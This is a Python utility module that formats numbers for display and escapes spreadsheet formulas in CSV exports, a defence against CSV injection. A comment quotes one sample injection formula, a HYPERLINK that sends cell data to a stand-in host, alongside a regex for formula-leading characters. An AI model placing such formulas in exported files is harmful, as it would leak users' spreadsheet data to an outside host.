"""Numbers a person can read at a glance ($7.50B, $2.49, 1.667, 32.4 months), and CSV
that a spreadsheet opens as data, never as formulas."""

from __future__ import annotations

import polars as pl


def money(value: float | None) -> str | None:
    if value is None:
        return None
    sign = "-" if value < 0 else ""
    v = abs(value)
    for threshold, suffix in ((1e12, "T"), (1e9, "B"), (1e6, "M"), (1e3, "k")):
        if v >= threshold:
            return f"{sign}${v / threshold:,.2f}{suffix}"
    return f"{sign}${v:,.2f}"


def format_for_display(frame: pl.DataFrame) -> pl.DataFrame:
    """Money columns (names with `usd`) as $…B/M/k; other floats to 3 significant decimals."""
    out = []
    for name, dtype in frame.schema.items():
        column = pl.col(name)
        if dtype.is_float() and "usd" in name:
            out.append(column.map_elements(money, return_dtype=pl.String))
        elif dtype.is_float():
            out.append(column.round(3))
        else:
            out.append(column)
    return frame.select(out)


def plain_number(value: float | None) -> str | None:
    """7,500,000,000 for large values, 1.66667 for small ones: no scientific notation."""
    if value is None:
        return None
    return f"{value:,.0f}" if abs(value) >= 1000 else f"{value:.6g}"


def format_numbers(frame: pl.DataFrame) -> pl.DataFrame:
    """Floats as plain, readable numbers (for query results shown as a table)."""
    return frame.with_columns(
        pl.col(name).map_elements(plain_number, return_dtype=pl.String)
        for name, dtype in frame.schema.items()
        if dtype.is_float()
    )


#: Text that a spreadsheet reads as a formula (OWASP, "CSV Injection"): cells beginning
#: with = + - @, a tab or a carriage return. A note such as =HYPERLINK("http://x"&A1,"src")
#: would run when the CSV is opened in Excel or Google Sheets.
FORMULA_START = r"^[=+\-@\t\r]"


def _escaped(name: str) -> pl.Expr:
    text = pl.col(name).cast(pl.String)
    return pl.when(text.str.contains(FORMULA_START)).then(pl.lit("'") + text).otherwise(text).alias(name)


def escape_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Text cells that begin like a formula, prefixed with a single quote (the OWASP rule),
    so a spreadsheet shows them as text. Numbers keep their type: -5 stays a number."""
    return frame.with_columns(
        _escaped(name)
        for name, dtype in frame.schema.items()
        if dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))
    )


def print_table(frame: pl.DataFrame, limit: int) -> None:
    """Print up to `limit` rows as a Markdown table, saying how many more there are."""
    with pl.Config(
        tbl_rows=limit,
        tbl_cols=-1,
        tbl_hide_column_data_types=True,
        tbl_hide_dataframe_shape=True,
        fmt_str_lengths=60,
        tbl_width_chars=400,
        tbl_formatting="ASCII_MARKDOWN",
    ):
        print(frame.head(limit))
    if frame.height > limit:
        print(f"({frame.height - limit} more rows; use --format csv for all)")
